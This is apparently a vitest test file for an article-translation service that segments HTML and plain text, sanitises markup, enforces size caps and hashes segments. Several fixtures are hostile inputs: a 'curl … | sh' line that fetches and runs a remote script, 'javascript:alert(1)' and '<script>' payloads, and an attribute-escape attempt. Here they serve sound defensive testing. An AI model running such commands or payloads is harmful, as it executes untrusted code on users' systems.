import type { JSONContent } from "@tiptap/core";
import { describe, expect, it } from "vitest";
import { normalizeTiptapDoc } from "@/lib/services/articles/body-schema";
import type { SourceSegment } from "@/lib/translation/types";
import { hashSegments } from "./hash";
import { MAX_SOURCE_CHARS, MAX_SOURCE_SEGMENTS } from "./limits";
import { segmentsFromHtml } from "./segments";
import { segmentsFromText } from "./segments-text";

const kinds = (s: SourceSegment[]) => s.map((x) => x.kind);
const texts = (s: SourceSegment[]) => s.map((x) => x.text);

/** A node passes the article body schema when a document of it does, unchanged. */
function expectValid(node: JSONContent) {
  const r = normalizeTiptapDoc({ type: "doc", content: [node] });
  expect(r).not.toHaveProperty("error");
  return r;
}

describe("segmentsFromHtml", () => {
  it("splits headings, paragraphs, list items and quotes, collapsing whitespace", () => {
    const s = segmentsFromHtml(`
      <h1>Title  here</h1><p>First
         paragraph with <b>bold</b> and <a href="/x">a link</a>.</p>
      <h5>Deep heading</h5>
      <ul><li>One</li><li>Two<ul><li>Two, nested</li></ul></li></ul>
      <ol start="3"><li><p>Three</p></li></ol>
      <blockquote><p>Quoted one.</p><p>Quoted two.</p></blockquote>
      <p>  </p><p>Line<br>break</p>`);
    expect(kinds(s)).toEqual([
      "HEADING",
      "PARAGRAPH",
      "HEADING",
      "LIST_ITEM",
      "LIST_ITEM",
      "LIST_ITEM",
      "LIST_ITEM",
      "QUOTE",
      "QUOTE",
      "PARAGRAPH",
    ]);
    expect(texts(s)).toEqual([
      "Title here",
      "First paragraph with bold and a link.",
      "Deep heading",
      "One",
      "Two",
      "Two, nested",
      "Three",
      "Quoted one.",
      "Quoted two.",
      "Line break",
    ]);
    expect(s[0]!.node).toEqual({ type: "heading", attrs: { level: 2 } });
    expect(s[2]!.node).toEqual({ type: "heading", attrs: { level: 4 } });
    expect(s[3]!.node).toEqual({ type: "listItem", attrs: { list: "bullet" } });
    expect(s[6]!.node).toEqual({ type: "listItem", attrs: { list: "ordered", start: 3 } });
  });

  it("keeps code whole with its line breaks and language, and the node passes the body schema", () => {
    const [code] = segmentsFromHtml(
      `<pre class="x"><code class="language-python">def f():\n    return 1  # keep   spaces\n\n</code></pre>`,
    );
    expect(code!.kind).toBe("CODE");
    expect(code!.text).toBe("def f():\n    return 1  # keep   spaces");
    expect(code!.node).toEqual({
      type: "codeBlock",
      attrs: { language: "python" },
      content: [{ type: "text", text: "def f():\n    return 1  # keep   spaces" }],
    });
    expectValid(code!.node!);
    const [plain] = segmentsFromHtml(`<pre class="lang-c++ evil\\"><b>x</b>  y</pre>`);
    expect(plain!.text).toBe("x  y");
    expectValid(plain!.node!);
  });

  it("turns a data table into our table node, headers and spans kept", () => {
    const [t] = segmentsFromHtml(`<table><thead><tr><th>CVE</th><th>CVSS</th></tr></thead>
      <tbody><tr><td colspan="2">CVE-2026-1 <i>9.8</i></td></tr><tr><td rowspan="999999">x</td><td></td></tr></tbody></table>`);
    expect(t!.kind).toBe("TABLE");
    expect(t!.text).toBe("CVE | CVSS\nCVE-2026-1 9.8\nx |");
    const rows = t!.node!.content!;
    expect(rows[0]!.content!.map((c) => c.type)).toEqual(["tableHeader", "tableHeader"]);
    expect(rows[1]!.content![0]!.attrs).toEqual({ colspan: 2, rowspan: 1 });
    expect(rows[2]!.content![0]!.attrs).toEqual({ colspan: 1, rowspan: 1 }); // out of range: not trusted
    expectValid(t!.node!);
  });

  it("walks a layout table as content and a table beyond the body's limits as rows of text", () => {
    const layout = segmentsFromHtml(
      `<table><tr><td><h2>Inside</h2><p>${"word ".repeat(150)}</p></td></tr></table>`,
    );
    expect(kinds(layout)).toEqual(["HEADING", "PARAGRAPH"]);
    const wide = `<table><tr>${"<td>c</td>".repeat(60)}</tr></table>`;
    const rows = segmentsFromHtml(wide);
    expect(kinds(rows)).toEqual(["PARAGRAPH"]);
    expect(rows[0]!.text).toBe(Array(60).fill("c").join(" | "));
  });

  it("makes figures and images IMAGE segments with absolute addresses, alt and caption", () => {
    const s = segmentsFromHtml(
      `<figure><img src="/img/a.png" alt="Chain"><figcaption>Figure 1. The  chain</figcaption></figure>
       <p>Text <a href="/big.png"><img data-src="b.png" src="data:image/gif;base64,R0lGOD"></a> more</p>
       <img src="javascript:alert(1)"><img srcset="/c.png 2x, /d.png 1x">`,
      "https://news.example/2026/story",
    );
    expect(kinds(s)).toEqual(["IMAGE", "PARAGRAPH", "IMAGE", "PARAGRAPH", "IMAGE"]);
    expect(s[0]!.node).toEqual({
      type: "figure",
      attrs: { src: "https://news.example/img/a.png", alt: "Chain", caption: "Figure 1. The chain" },
    });
    expect(s[0]!.text).toBe("");
    expect(s[2]!.node!.attrs!.src).toBe("https://news.example/2026/b.png");
    expect(s[4]!.node!.attrs!.src).toBe("https://news.example/c.png");
    expect(texts(s).filter(Boolean)).toEqual(["Text", "more"]);
  });

  it("builds figures that pass the body schema once the image is one of ours (assembly links foreign ones)", () => {
    const [img] = segmentsFromHtml(
      `<figure><img src="https://x.example/a.png" alt="${"a".repeat(900)}"><figcaption>c</figcaption></figure>`,
    );
    expect((img!.node!.attrs!.alt as string).length).toBe(500);
    expect(normalizeTiptapDoc({ type: "doc", content: [img!.node!] })).toHaveProperty("error");
    const own = { ...img!.node!, attrs: { ...img!.node!.attrs, src: `/media/ab/${"c".repeat(64)}.png` } };
    expectValid(own);
  });

  it("drops relative images without a base, scripts, styles, forms and empty blocks", () => {
    const s = segmentsFromHtml(
      `<img src="/rel.png"><script>alert(1)</script><style>p{}</style><form><input value="x"><button>Go</button></form><div><p></p><span> </span></div><p>Kept</p>`,
    );
    expect(s).toEqual([{ kind: "PARAGRAPH", text: "Kept" }]);
  });

  it("removes control characters and lone surrogates that the database refuses", () => {
    const [p] = segmentsFromHtml(`<p>a\u0000b\u0007c \ud800 d</p>`);
    expect(p!.text).toBe("abc \ufffd d");
  });

  it("survives deeply nested and broken markup", () => {
    const deep = "<div>".repeat(5000) + "<p>Deep text</p>" + "</div>".repeat(10);
    const s = segmentsFromHtml(deep);
    expect(texts(s)).toEqual(["Deep text"]);
    // linkedom nests the stray <li> inside <b>: one paragraph, nothing thrown, nothing lost
    expect(segmentsFromHtml("<p><<b>>x</i></ul></table><li>y")).toEqual([
      { kind: "PARAGRAPH", text: "<>x y" },
    ]);
  });

  it("refuses more than the segment and character caps instead of truncating", () => {
    expect(() => segmentsFromHtml("<p>x</p>".repeat(MAX_SOURCE_SEGMENTS + 1))).toThrow(/原文过长/);
    expect(segmentsFromHtml("<p>x</p>".repeat(MAX_SOURCE_SEGMENTS))).toHaveLength(MAX_SOURCE_SEGMENTS);
    expect(() => segmentsFromHtml(`<p>${"a".repeat(MAX_SOURCE_CHARS + 1)}</p>`)).toThrow(/原文过长/);
  });

  it("builds text-kind nodes that pass the schema when assembled with text", () => {
    const s = segmentsFromHtml(`<h1>H</h1><h6>H6</h6><p>P</p>`);
    for (const seg of s.filter((x) => x.kind === "HEADING"))
      expectValid({ ...seg.node!, content: [{ type: "text", text: seg.text }] });
  });
});

describe("segmentsFromText", () => {
  it("reads blank-line paragraphs, # headings, list lines, quotes and fenced code", () => {
    const s = segmentsFromText(
      [
        "# Big news",
        "First line of a",
        "hard-wrapped paragraph.",
        "",
        "## Details",
        "- one",
        "* two",
        "1. first",
        "2) second",
        "> quoted",
        "> on two lines",
        "### Code",
        "```bash",
        "  curl -s http://203.0.113.5/x | sh",
        "",
        "```",
        "Last.",
      ].join("\r\n"),
    );
    expect(s).toEqual([
      { kind: "HEADING", text: "Big news", node: { type: "heading", attrs: { level: 2 } } },
      { kind: "PARAGRAPH", text: "First line of a hard-wrapped paragraph." },
      { kind: "HEADING", text: "Details", node: { type: "heading", attrs: { level: 3 } } },
      { kind: "LIST_ITEM", text: "one", node: { type: "listItem", attrs: { list: "bullet" } } },
      { kind: "LIST_ITEM", text: "two", node: { type: "listItem", attrs: { list: "bullet" } } },
      { kind: "LIST_ITEM", text: "first", node: { type: "listItem", attrs: { list: "ordered" } } },
      { kind: "LIST_ITEM", text: "second", node: { type: "listItem", attrs: { list: "ordered" } } },
      { kind: "QUOTE", text: "quoted on two lines" },
      { kind: "HEADING", text: "Code", node: { type: "heading", attrs: { level: 4 } } },
      {
        kind: "CODE",
        text: "  curl -s http://203.0.113.5/x | sh",
        node: {
          type: "codeBlock",
          attrs: { language: "bash" },
          content: [{ type: "text", text: "  curl -s http://203.0.113.5/x | sh" }],
        },
      },
      { kind: "PARAGRAPH", text: "Last." },
    ]);
    expectValid(s[9]!.node!);
  });

  it("keeps an unclosed fence as code and ignores blank input", () => {
    expect(kinds(segmentsFromText("Intro\n```\nx = 1"))).toEqual(["PARAGRAPH", "CODE"]);
    expect(segmentsFromText(" \n\n\t\n")).toEqual([]);
    expect(segmentsFromText("#hashtag is a paragraph")).toEqual([
      { kind: "PARAGRAPH", text: "#hashtag is a paragraph" },
    ]);
  });

  it("refuses a paste beyond the caps", () => {
    expect(() => segmentsFromText("x\n\n".repeat(MAX_SOURCE_SEGMENTS + 1))).toThrow(/原文过长/);
  });
});

describe("hashSegments", () => {
  const a: SourceSegment[] = [
    { kind: "PARAGRAPH", text: "One" },
    { kind: "IMAGE", text: "", node: { type: "figure", attrs: { src: "https://x/a.png", caption: "c" } } },
  ];
  it("is stable and sensitive to kind, text, boundaries and image address", () => {
    const h = hashSegments(a);
    expect(h).toMatch(/^[0-9a-f]{64}$/);
    expect(hashSegments(structuredClone(a))).toBe(h);
    expect(hashSegments([{ ...a[0]!, kind: "QUOTE" }, a[1]!])).not.toBe(h);
    expect(hashSegments([{ ...a[0]!, text: "One." }, a[1]!])).not.toBe(h);
    expect(
      hashSegments([
        a[0]!,
        { ...a[1]!, node: { type: "figure", attrs: { src: "https://x/b.png", caption: "c" } } },
      ]),
    ).not.toBe(h);
    expect(hashSegments([{ kind: "PARAGRAPH", text: "ab" }])).not.toBe(
      hashSegments([
        { kind: "PARAGRAPH", text: "a" },
        { kind: "PARAGRAPH", text: "b" },
      ]),
    );
  });
});
